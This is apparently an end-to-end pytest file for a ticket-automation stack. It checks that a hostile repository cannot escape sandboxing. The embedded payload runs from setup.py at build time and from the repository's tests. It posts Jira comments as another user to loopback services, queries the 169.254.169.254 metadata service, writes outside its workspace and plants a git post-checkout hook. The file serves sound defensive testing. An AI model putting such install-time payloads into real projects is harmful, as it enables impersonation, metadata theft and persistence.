"""A hostile repository run as a ticket on the embedded stack: its build hook (setup.py, run
while its environment is set up) and its tests try to reach every loopback service of the
stack, post to Jira in a user's name, reach a cloud metadata service, write outside their
workspace and plant a git hook. Afterwards nothing they tried has happened, the stack serves
the next request, and the pull request names what set-up was refused."""

import asyncio
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from config import Settings
from embedded.demo import starter
from embedded.stack import Stack
from harness.stacks import stack_settings
from temporal.client import connect_temporal
from tests.e2e.stacks import running
from workflows.ticket.messages import TicketResult

pytestmark = pytest.mark.e2e
KEY = "EVIL-1"
PROJECT = (
    '\n[projects.EVIL]\nrepository = "demo/hostile"\n'
    "implement_after_approval = true\nfollow_pull_request = false\n"
)
TICKET_S = 600.0
# Whatever runs inside the repository: set-up's build hook and the tests share the attempts.
ATTACK = """
import base64, http.client, json, os, pathlib, socket, urllib.request

def attempt(action):
    try:
        action()
    except Exception:
        pass

def attack(where):
    alice = base64.b64encode(b"alice@example.com:token").decode()
    comment = json.dumps({{"body": "approved by " + where}}).encode()
    for port in {ports!r}:
        url = f"http://127.0.0.1:{{port}}/rest/api/3/issue/{key}/comment"
        request = urllib.request.Request(url, data=comment, method="POST", headers={{
            "Authorization": "Basic " + alice, "Content-Type": "application/json"}})
        attempt(lambda: urllib.request.urlopen(request, timeout=5))  # through any proxy
        def direct(port=port):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            connection.request("POST", f"/rest/api/3/issue/{key}/comment", comment, {{
                "Authorization": "Basic " + alice, "Content-Type": "application/json"}})
            connection.getresponse()
        attempt(direct)
    attempt(lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=5))
    attempt(lambda: pathlib.Path({planted!r}).write_text(where))
    attempt(lambda: pathlib.Path(".git/hooks/post-checkout").write_text("#!/bin/sh\\nid\\n"))
"""
SETUP_PY = (
    "{attack}\nattack('set-up')\n"
    "from setuptools import setup\nsetup(name='hostile', version='0', py_modules=[])\n"
)
TEST = "{attack}\n\ndef test_attack():\n    attack('tests')\n"


@pytest.fixture(scope="module")
async def stack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stack]:
    """The embedded stack with the EVIL project configured."""
    settings = stack_settings(tmp_path_factory.mktemp("stack"))
    with settings.projects_file.open("a") as projects:
        projects.write(PROJECT)
    async with running(settings) as started:
        yield started


def service_ports(settings: Settings) -> list[int]:
    """Every loopback port the stack listens on."""
    temporal = int(settings.temporal_address.rpartition(":")[2])
    return [
        settings.emulator_port, temporal, settings.temporal_http_port, settings.temporal_ui_port,
        settings.webhook_port, settings.codec_port, settings.toolserver_port, settings.metrics_port,
    ]  # fmt: skip


def push_hostile_repository(settings: Settings, into: Path, planted: Path) -> None:
    """Create demo/hostile on the emulator and push the attack to its main branch."""
    attack = ATTACK.format(ports=service_ports(settings), key=KEY, planted=str(planted))
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
        'build-backend = "setuptools.build_meta"\n',
        "setup.py": SETUP_PY.format(attack=attack),
        "tests/test_attack.py": TEST.format(attack=attack),
        "hostile.py": "def answer():\n    return 42\n",
    }
    for name, text in files.items():
        (into / name).parent.mkdir(parents=True, exist_ok=True)
        (into / name).write_text(text)
    ident = ["-c", "user.name=Mallory", "-c", "user.email=mallory@example.com"]
    url = f"{settings.git_base_url}/demo/hostile.git"
    auth = ["-c", "http.extraHeader=Authorization: Bearer mallory-token"]
    for args in (
        ["init", "-q", "-b", "main"], ["add", "-A"], [*ident, "commit", "-qm", "hostile"],
        [*auth, "push", "-q", url, "main"],
    ):  # fmt: skip
        subprocess.run(["git", *args], cwd=into, check=True, capture_output=True, timeout=60)


async def jira_comments(http: httpx.AsyncClient) -> list[dict[str, Any]]:
    """Every comment on the ticket, with its author."""
    return (await http.get(f"/rest/api/3/issue/{KEY}/comment")).json()["comments"]


async def test_nothing_a_hostile_repository_tries_happens_and_set_up_names_it(
    stack: Stack, tmp_path: Path
) -> None:
    settings = stack.settings
    planted = tmp_path / "planted-by-the-repository.txt"
    async with httpx.AsyncClient(base_url=settings.jira_base_url, timeout=30) as http:
        made = await http.post("/_emulator/repositories", json={"owner": "demo", "name": "hostile"})
        made.raise_for_status()
        push_hostile_repository(settings, tmp_path / "hostile", planted)
        issue = {"project": "EVIL", "summary": "Add a function that answers", "key": KEY}
        (await http.post("/_emulator/issues", json=issue)).raise_for_status()

        assert "started" in starter(settings, KEY, "--auto").lower()
        client = await connect_temporal(settings)
        handle = client.get_workflow_handle(f"ticket-{KEY}", result_type=TicketResult)
        result = await asyncio.wait_for(handle.result(rpc_timeout=None), TICKET_S)

        comments = await jira_comments(http)
        pulls = (
            await http.get(
                "/api/v3/repos/demo/hostile/pulls",
                params={"state": "all"},
                headers={"Authorization": "Bearer carol-token"},
            )
        ).json()
        healthy = await http.get("/rest/api/3/issue/DEMO-1")
    assert result.pr_url, result.message
    authors = {c["author"]["accountId"] for c in comments}
    assert authors == {"ticketsmith-bot"}, [c["body"] for c in comments]
    assert not planted.exists()
    hooks = list((settings.data_dir / "workspaces").rglob(".git/hooks/post-checkout"))
    assert hooks == [], "a hook was planted in a workspace the worker runs git in"
    body = next(p["body"] for p in pulls if p["html_url"] == result.pr_url)
    jira = settings.emulator_port
    assert f"set-up tried to reach 127.0.0.1:{jira}: refused" in body, body
    assert "set-up tried to reach 169.254.169.254:80: refused" in body
    assert healthy.status_code == 200
    async with httpx.AsyncClient(timeout=10) as plain:
        webhooks = await plain.get(f"http://127.0.0.1:{settings.webhook_port}/healthz")
    assert webhooks.status_code == 200
